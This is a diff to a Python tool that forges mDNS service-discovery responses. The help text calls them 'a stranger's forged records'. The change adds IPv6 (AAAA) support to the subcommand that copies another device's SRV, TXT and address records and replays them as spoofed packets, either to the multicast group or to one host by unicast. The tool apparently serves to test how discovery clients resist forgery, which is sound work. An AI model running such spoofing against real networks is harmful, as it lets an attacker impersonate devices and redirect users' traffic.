@@ -35,7 +35,7 @@ JSON on stdout:
       G ms apart, from IP:5353 (or port P; 0: an ephemeral one), to the group
       (or by unicast to --to IP:5353 only, so that no other host hears it),
       and prints {"sent": N}.
-  records --src IP --instance NAME --copy OTHER [--phantoms K] [--to IP] --count N --gap-ms G
+  records --src IP --instance NAME --copy OTHER [--phantoms K] [--at-family 4|6] [--to IP] --count N --gap-ms G
       a stranger's forged records: asks OTHER's agent (a legacy query from
       an ephemeral port, answered by unicast) for OTHER's SRV, TXT and
       address, then sends N responses, G ms apart, from IP:5353 to the
@@ -420,10 +420,23 @@ def records(args):
     if srv is None or txt is None:
         print(json.dumps({"error": f"no SRV/TXT for {other}", "got": got}), flush=True)
         return 1
-    addr = next((r["addr"] for r in got if r["type"] == "A" and r["name"].lower() == srv["target"].lower()), None)
+    want = "AAAA" if args.at_family == 6 else "A"
+    addr = next(
+        (
+            r["addr"]
+            for r in got
+            if r["type"] == want
+            and r["name"].lower() == srv["target"].lower()
+            and not r["addr"].lower().startswith("fe80")
+        ),
+        None,
+    )
     if addr is None:
-        got_a = legacy_ask(args.src, srv["target"], 1)
-        addr = next((r["addr"] for r in got_a if r["type"] == "A"), None)
+        got_a = legacy_ask(args.src, srv["target"], 28 if want == "AAAA" else 1)
+        addr = next(
+            (r["addr"] for r in got_a if r["type"] == want and not r["addr"].lower().startswith("fe80")),
+            None,
+        )
     if addr is None:
         print(json.dumps({"error": f"no address for {srv['target']}"}), flush=True)
         return 1
@@ -436,7 +449,10 @@ def records(args):
         srv_rdata = struct.pack("!HHH", 0, 0, srv["port"]) + encode_name(host)
         answers.append(rr_bytes(full, 33, 120, srv_rdata))
         answers.append(rr_bytes(full, 16, 4500, bytes.fromhex(txt["raw"])))
-        answers.append(rr_bytes(host, 1, 120, socket.inet_aton(addr)))
+        if want == "AAAA":
+            answers.append(rr_bytes(host, 28, 120, socket.inet_pton(socket.AF_INET6, addr)))
+        else:
+            answers.append(rr_bytes(host, 1, 120, socket.inet_aton(addr)))
     packet = struct.pack("!HHHHHH", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers)
     send_forged(args.src, PORT, args.to, packet, args.count, args.gap_ms)
     copied = {"addr": addr, "port": srv["port"], "names": names}
@@ -490,6 +506,7 @@ def main():
     a.add_argument("--instance", required=True)
     a.add_argument("--copy", required=True)
     a.add_argument("--phantoms", type=int, default=0)
+    a.add_argument("--at-family", type=int, default=4, choices=[4, 6])
     a.add_argument("--to")
     a.add_argument("--count", type=int, default=2)
     a.add_argument("--gap-ms", type=int, default=250)
